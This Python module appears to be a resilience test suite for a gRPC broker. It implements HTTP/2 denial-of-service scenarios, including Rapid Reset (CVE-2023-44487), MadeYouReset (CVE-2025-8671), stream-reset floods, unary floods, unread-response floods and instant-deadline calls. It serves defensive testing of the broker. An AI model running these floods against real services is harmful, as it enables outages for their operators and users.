"""Streams that are opened only to be ended: by the client, or by the broker since it must."""

import time

from attack import attack
from clients import ADMIN, SERVICE, close, frame_of, heartbeat, heartbeat_message
from flood import Flood
import wire


def reset_flood(target, outcome, path, connections=1, frames_of=lambda stream: wire.call(stream) + wire.reset(stream), **options):
    Flood(target, wire.prelude(path, **options), lambda: wire.blocks_of_calls(frames_of), connections).run(outcome)


@attack()
def rapid_reset(target, outcome):
    """CVE-2023-44487: streams opened and reset at once, as fast as they are taken"""
    reset_flood(target, outcome, SERVICE + "Connect")


@attack()
def rapid_reset_4(target, outcome):
    """rapid reset on four connections that never acknowledge the settings"""
    reset_flood(target, outcome, SERVICE + "Connect", 4, acknowledges=False)


@attack()
def rapid_reset_16(target, outcome):
    """rapid reset from sixteen addresses, a connection each"""
    Flood(target, wire.prelude(SERVICE + "Connect"),
          lambda: wire.blocks_of_calls(lambda stream: wire.call(stream) + wire.reset(stream)),
          16, sources=["127.0.1.%d" % i for i in range(1, 17)]).run(outcome)


@attack()
def moderate_resets(target, outcome):
    """100 connections that each open and reset 90 streams a second: little for a connection"""
    connections = [target.connect() for _ in range(100)]
    begin = time.monotonic()
    for connection in connections:
        connection.raw(wire.prelude(SERVICE + "Connect")[len(wire.PREFACE):])
    turn = 0
    while time.monotonic() < begin + target.seconds:
        first = 3 + 18 * turn
        frames = b"".join(wire.call(stream) + wire.reset(stream) for stream in range(first, first + 18, 2))
        for connection in connections:
            connection.raw(frames)
            connection.flush(1)
            connection.pump()
        turn += 1
        time.sleep(max(0, begin + turn / 10 - time.monotonic()))
    outcome.remarks.append("%.0f a second, %d connections ended" % (
        900 * turn / (time.monotonic() - begin), sum(connection.is_closed for connection in connections)))
    close(connections)


@attack()
def rapid_reset_unary(target, outcome):
    """unary calls opened and reset at once"""
    reset_flood(target, outcome, SERVICE + "Heartbeat")


@attack()
def rapid_reset_admin(target, outcome):
    """listings of all clients, whole with their message, and reset at once"""
    body = b"\0\0\0\0\0"
    reset_flood(target, outcome, ADMIN + "ListClients", 1, lambda stream: wire.call(stream, body) + wire.reset(stream))


@attack()
def rapid_reset_joined(target, outcome):
    """a stream joins and heartbeats; rapid reset beside it on the connection"""
    joined = wire.call(3, frame_of(heartbeat("resetter")), ends=False)
    Flood(target, wire.prelude(SERVICE + "Connect") + joined,
          lambda: wire.blocks_of_calls(lambda stream: wire.call(stream) + wire.reset(stream), first=5)).run(outcome)


@attack()
def joins_and_leaves(target, outcome):
    """full heartbeats into the groups of the well-behaved, on streams that are reset at once"""
    bodies = [frame_of(heartbeat("joiner-%d" % i, ["victims-%d" % (i % 10)])) for i in range(1000)]
    reset_flood(target, outcome, SERVICE + "Connect", 1,
                lambda stream: wire.call(stream, bodies[stream // 2 % 1000], ends=False) + wire.reset(stream))


@attack()
def made_you_reset(target, outcome):
    """CVE-2025-8671: streams that the broker itself must end: messages of an unknown form"""
    reset_flood(target, outcome, SERVICE + "Connect", 1,
                lambda stream: wire.call(stream, b"\2\0\0\0\0", ends=False))


@attack()
def made_you_reset_by_windows(target, outcome):
    """streams that the broker must end or not: windows that grow by 0, data after the end"""
    reset_flood(target, outcome, SERVICE + "Connect", 1, lambda stream: (
        wire.call(stream) + wire.window_update(stream, 0) if stream % 4 == 1 else
        wire.call(stream, b"") + wire.frame(wire.DATA, 0, stream, b"more")))


@attack()
def made_you_reset_by_paths(target, outcome):
    """calls without a path, and of methods that do not exist"""
    nameless = b"\x83\x86" + wire.literal(b"te", b"trailers")
    unknown = b"\x83\x86\x44" + wire.string(b"/no.Such/Method") + wire.REPEATED_HEADERS[3:]
    reset_flood(target, outcome, SERVICE + "Connect", 1, lambda stream: wire.call(
        stream, headers=nameless if stream % 4 == 1 else unknown))


@attack()
def resets_of_nothing(target, outcome):
    """RST_STREAM of a stream that is long over, and of one that never was"""
    Flood(target, wire.prelude(SERVICE + "Connect"), lambda: wire.blocks_of(wire.reset(1) + wire.reset(99999))).run(outcome)


@attack()
def unary_flood(target, outcome):
    """whole unary heartbeats, as fast as they are taken, without waiting for answers"""
    body = heartbeat_message("flooder")
    reset_flood(target, outcome, SERVICE + "Heartbeat", 1, lambda stream: wire.call(stream, body))


@attack()
def unary_flood_unacknowledged(target, outcome):
    """the same on four connections that never acknowledge the settings"""
    body = heartbeat_message("flooder")
    reset_flood(target, outcome, SERVICE + "Heartbeat", 4, lambda stream: wire.call(stream, body), acknowledges=False)


@attack()
def unary_flood_unread(target, outcome):
    """the same, and nothing of what the broker writes is read"""
    body = heartbeat_message("flooder")
    Flood(target, wire.prelude(SERVICE + "Heartbeat", acknowledges=False),
          lambda: wire.blocks_of_calls(lambda stream: wire.call(stream, body)), reads=False).run(outcome)


@attack()
def tiny_deadlines(target, outcome):
    """whole unary heartbeats whose time is over at once (grpc-timeout 1n)"""
    body = heartbeat_message("hurried")
    headers = wire.REPEATED_HEADERS + wire.literal(b"grpc-timeout", b"1n")
    reset_flood(target, outcome, SERVICE + "Heartbeat", 1, lambda stream: wire.call(stream, body, headers=headers))
